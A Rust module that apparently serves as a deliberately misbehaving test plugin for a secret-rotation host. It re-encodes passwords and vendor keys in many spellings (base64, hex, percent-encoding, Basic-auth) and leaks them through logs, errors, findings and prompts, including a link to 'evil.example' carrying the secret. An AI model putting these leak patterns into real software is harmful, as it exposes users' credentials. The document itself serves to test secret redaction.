//! Spelling secrets out wherever the contract has a text.

use crate::keyturn::rotation::log as logging;
use crate::keyturn::rotation::types::{InputRequest, Prompt};
use crate::lies::member;
use crate::{
    Consumer, Context, Error, ErrorKind, Finding, Level, MemberReport, Outcome, Status,
    UsageReport, error, report,
};

const BASE64: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";

pub(crate) fn password(value: &str) -> &str {
    member(value, "password")
}

/// All that it was given, in every spelling that the host promises to know.
fn spelled(ctx: &Context, candidate: &str) -> Vec<String> {
    let mut all = vec![ctx.current.value.clone()];
    let others = ctx.others.iter().map(|other| other.version.value.as_str());
    let values = others.chain([ctx.current.value.as_str(), candidate]);
    for value in values {
        for name in ["password", "vendor_key"] {
            let secret = member(value, name);
            if secret.is_empty() {
                continue;
            }
            all.extend(["", "u", "us", "app:"].map(|before| base64(&format!("{before}{secret}:"))));
            all.extend([
                secret.to_owned(),
                format!("[{secret}]"),
                base64(secret),
                base64(secret).replace('+', "-").replace('/', "_"),
                each(secret, |byte| format!("{byte:02x}")),
                each(secret, |byte| format!("{byte:02X}")),
                each(secret, |byte| match byte {
                    byte if byte.is_ascii_alphanumeric() => char::from(byte).to_string(),
                    b'-' | b'.' | b'_' | b'~' => char::from(byte).to_string(),
                    byte => format!("%{byte:02X}"),
                }),
                secret.replace('/', "\\/"),
                secret.chars().map(ascii).collect(),
                format!("{:?}", secret.as_bytes()),
            ]);
        }
    }
    all
}

pub(crate) fn log(ctx: &Context, candidate: &str) {
    for text in spelled(ctx, candidate) {
        let fields = [(text.clone(), String::new()), ("v".into(), text.clone())];
        logging::write(logging::Severity::Debug, &text, &fields);
    }
}

pub(crate) fn outcome(how: &str, ctx: &Context, candidate: &str) -> Result<Outcome, Error> {
    let texts = spelled(ctx, candidate);
    if how == "error" {
        return Err(refusal(&texts));
    }
    let finding = |text: &String| Finding {
        id: text.clone(),
        level: Level::Note,
        summary: text.clone(),
        fix: Some(text.clone()),
    };
    Ok(Outcome {
        status: Status::Done,
        members: members(ctx),
        findings: texts.iter().map(finding).collect(),
        opened_with: Some(password(candidate).into()),
    })
}

pub(crate) fn members(ctx: &Context) -> Vec<MemberReport> {
    let texts = spelled(ctx, "");
    let member = |text: &String| {
        let error = refusal(std::slice::from_ref(text));
        report(text.clone(), text.clone(), Some(error))
    };
    texts.iter().map(member).collect()
}

pub(crate) fn questions(ctx: &Context) -> InputRequest {
    let texts = spelled(ctx, "");
    let prompt = |text: &String| Prompt {
        name: text.clone(),
        label: text.clone(),
        sensitive: false,
        multiline: true,
        pattern: Some(text.clone()),
        example: Some(text.clone()),
    };
    InputRequest {
        title: ctx.current.value.clone(),
        link: Some(format!(
            "https://evil.example/?q={}",
            base64(&ctx.current.value)
        )),
        checklist: texts.clone(),
        prompts: texts.iter().map(prompt).collect(),
        expires_after_seconds: u64::MAX,
    }
}

pub(crate) fn usage(ctx: &Context) -> UsageReport {
    let consumer = |text: String| Consumer {
        name: text.clone(),
        address: Some(text),
        sessions: u32::MAX,
        idle_seconds: None,
    };
    UsageReport {
        observable: true,
        consumers: spelled(ctx, "").into_iter().map(consumer).collect(),
        note: Some(ctx.current.value.clone()),
    }
}

fn refusal(texts: &[String]) -> Error {
    Error {
        kind: ErrorKind::Auth,
        code: texts.first().cloned(),
        details: texts
            .iter()
            .map(|text| (text.clone(), text.clone()))
            .collect(),
        ..error(texts.join(" "))
    }
}

fn each(text: &str, spell: impl Fn(u8) -> String) -> String {
    text.bytes().map(spell).collect()
}

fn ascii(character: char) -> String {
    if character.is_ascii() {
        return character.into();
    }
    let mut units = [0; 2];
    let units = character.encode_utf16(&mut units).iter();
    units.map(|unit| format!("\\u{unit:04x}")).collect()
}

fn base64(text: &str) -> String {
    let mut out = String::new();
    for group in text.as_bytes().chunks(3) {
        let byte = |at: usize| u32::from(group.get(at).copied().unwrap_or_default());
        let bits = byte(0) << 16 | byte(1) << 8 | byte(2);
        for place in 0..4 {
            if place <= group.len() {
                let index = bits >> (18 - 6 * place) & 63;
                out.push(char::from(BASE64[index as usize]));
            } else {
                out.push('=');
            }
        }
    }
    out
}
